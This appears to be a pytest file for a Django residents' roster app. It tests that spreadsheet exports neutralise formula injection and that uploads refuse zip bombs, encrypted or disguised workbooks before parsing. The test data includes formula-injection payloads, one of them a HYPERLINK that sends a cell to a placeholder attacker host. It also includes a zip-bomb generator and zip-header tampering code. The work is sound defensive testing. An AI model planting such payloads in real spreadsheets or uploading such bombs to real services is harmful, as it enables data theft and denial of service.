"""Spreadsheets in and out, safely (issue 19, points 9 and 10; R-SEC-1, R-ROSTER-4, SPEC section 4).

Out: a roster cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written
into every exported .xlsx as text, never as a live formula, and reads back exactly as typed.
In: a zip bomb, an encrypted or a disguised workbook is refused by its declared sizes before any
parser sees it, with a clear Chinese message on the import page (and in the API's batch), and
nothing is imported."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from ownervote.core import spreadsheets
from ownervote.core.errors import Code, InvalidInput
from ownervote.roster import services
from ownervote.roster.models import Flat, ImportBatch, Owner
from tests.rosterfiles import flat_row, mobile, person_id, roster_csv, roster_xlsx

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def _cells(content: bytes) -> set:
    wb = load_workbook(io.BytesIO(content))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}


@pytest.mark.parametrize("value", HOSTILE)
def test_workbook_bytes_writes_text_never_a_formula(value):  # R-SEC-1
    wb = Workbook()
    wb.active.append(["姓名", value])
    wb.active.cell(row=2, column=1, value=value)
    content = spreadsheets.workbook_bytes(wb)
    assert "<f>" not in _sheet_xml(content)
    wb2 = load_workbook(io.BytesIO(content))
    read = value.replace("\r", "\n")  # XML itself reads a carriage return as a line feed
    assert wb2.active["B1"].value == read and wb2.active["B1"].data_type == "s"
    assert wb2.active["A2"].value == read


def test_roster_export_writes_hostile_owner_names_as_text(staff, estates):  # R-SEC-1, R-ROSTER-4
    """The exported roster (names masked by the export) and its building and room columns, typed
    by somebody else, come out as text cells exactly as stored, with no formula in the file."""
    rows = [
        flat_row(value, f"10{i}", "80", f"张{i}", person_id(i + 1), mobile(i + 1))
        for i, value in enumerate(HOSTILE[:5])
    ]
    estate_id = estates["a"].pk
    batch = services.import_preview(actor=staff["convener"], estate_id=estate_id, upload=roster_csv(rows))
    assert batch.status == ImportBatch.Status.PREVIEWED, batch.errors
    services.import_apply(actor=staff["convener"], batch_id=batch.pk, reason="首次导入")
    content = services.export.export_xlsx(actor=staff["convener"], estate_id=estates["a"].pk)
    assert "<f>" not in _sheet_xml(content)
    cells = _cells(content)
    for value in HOSTILE[:5]:
        assert value.strip() in cells, value


def test_every_xlsx_writer_saves_through_the_core_helper():  # R-SEC-1
    """No module but ``core.spreadsheets`` saves an openpyxl workbook itself."""
    from pathlib import Path

    import ownervote

    root = Path(ownervote.__file__).parent
    offenders = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if "openpyxl" in (text := p.read_text()) and "wb.save(" in text and p.name != "spreadsheets.py"
    ]
    assert not offenders


# --- zip bombs and other archives that are not a roster -------------------------------------------


def bomb(unpacked_mb: int = 100) -> bytes:
    """A small .xlsx-looking archive whose one sheet inflates to ``unpacked_mb`` MB of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            zeros = b"0" * 2**20
            for _ in range(unpacked_mb):
                sheet.write(zeros)
    return out.getvalue()


def too_many_entries() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for i in range(600):
            archive.writestr(f"xl/part{i}.xml", "")
    return out.getvalue()


def encrypted() -> bytes:
    """A zip whose one entry is flagged encrypted (bit 0 of the general purpose flags)."""
    content = bytearray(roster_xlsx([]).content)
    archive = zipfile.ZipFile(io.BytesIO(bytes(content)))
    for info in archive.infolist():
        local = info.header_offset + 6
        content[local] |= 0x01
    central = content.find(b"PK\x01\x02")
    while central != -1:
        content[central + 8] |= 0x01
        central = content.find(b"PK\x01\x02", central + 4)
    return bytes(content)


REFUSED = [
    ("bomb", bomb, Code.XLSX_TOO_LARGE, "MB"),
    ("not a zip", lambda: b"<html>not a workbook</html>", Code.XLSX_NOT_ZIP, ".xlsx"),
    ("too many entries", too_many_entries, Code.XLSX_TOO_MANY_ENTRIES, "500"),
    ("encrypted", encrypted, Code.XLSX_ENCRYPTED, "密码"),
]


@pytest.fixture
def no_parser(monkeypatch):
    """The spreadsheet parser must never be reached: it fails the test if it is."""
    import python_calamine

    def refuse(*args, **kwargs):
        raise AssertionError("the parser was called")

    monkeypatch.setattr(python_calamine.CalamineWorkbook, "from_filelike", refuse)


def test_the_bomb_is_small_on_disk():
    content = bomb()
    assert len(content) < 300_000
    assert sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(content)).infolist()) > 100 * 2**20


@pytest.mark.parametrize(("label", "make", "code", "word"), REFUSED, ids=[r[0] for r in REFUSED])
def test_check_xlsx_refuses_before_parsing(no_parser, label, make, code, word):  # R-ROSTER-4
    with pytest.raises(InvalidInput) as refused:
        spreadsheets.check_xlsx(make())
    assert refused.value.code == code
    assert word in str(refused.value.message)


def test_a_real_roster_passes_the_check():  # R-ROSTER-4
    rows = [flat_row("1栋", "101", "80", "张三", person_id(1), mobile(1))]
    spreadsheets.check_xlsx(roster_xlsx(rows).content)


@pytest.mark.parametrize(("label", "make", "code", "word"), REFUSED, ids=[r[0] for r in REFUSED])
def test_the_import_page_refuses_it_in_chinese_and_imports_nothing(
    client, staff, estates, no_parser, label, make, code, word
):  # R-ROSTER-4, SPEC section 4
    estate = estates["a"]
    client.force_login(staff["convener"])
    upload = SimpleUploadedFile("roster.xlsx", make(), spreadsheets.XLSX_CONTENT_TYPE)
    response = client.post(reverse("roster:import", args=[estate.pk]), {"file": upload}, follow=True)
    batch = ImportBatch.objects.get(estate=estate)
    assert batch.status == ImportBatch.Status.REFUSED
    # a file that is no zip at all keeps the roster's own code (roster.file_unreadable)
    assert [e["code"] for e in batch.errors] == [
        "roster.file_unreadable" if code == Code.XLSX_NOT_ZIP else code
    ]
    body = response.content.decode()
    assert str(batch.errors[0]["message"]) in body
    assert not Flat.objects.filter(estate=estate).exists()
    assert not Owner.objects.filter(estate=estate).exists()


def test_the_api_refuses_the_bomb_with_its_code(client, staff, estates, no_parser):  # R-ROSTER-4
    client.force_login(staff["convener"])
    upload = SimpleUploadedFile("roster.xlsx", bomb(), spreadsheets.XLSX_CONTENT_TYPE)
    response = client.post(
        f"/api/estates/{estates['a'].pk}/imports", {"file": upload}, headers={"Accept-Language": "zh-hans"}
    )
    body = response.json()
    assert response.status_code < 500, body
    assert body["status"] == "refused"
    assert body["errors"][0]["code"] == Code.XLSX_TOO_LARGE
    assert "解压" in body["errors"][0]["message"] or "MB" in body["errors"][0]["message"]
    assert not Flat.objects.filter(estate=estates["a"]).exists()


def test_a_lying_header_is_refused_by_its_crc():  # R-ROSTER-4
    """An entry whose header understates its size never reaches the parser inflated."""
    content = bytearray(bomb(2))
    archive = zipfile.ZipFile(io.BytesIO(bytes(content)))
    info = archive.getinfo("xl/worksheets/sheet1.xml")
    assert info.file_size == 2 * 2**20
    # Shrink the declared size in the central directory (zip64 extra field holds it).
    declared = (2 * 2**20).to_bytes(8, "little")
    at = bytes(content).rfind(declared)
    content[at : at + 8] = (1000).to_bytes(8, "little")
    with pytest.raises(InvalidInput) as refused:
        spreadsheets.check_xlsx(bytes(content))
    assert refused.value.code in (Code.XLSX_NOT_ZIP, Code.XLSX_TOO_LARGE)
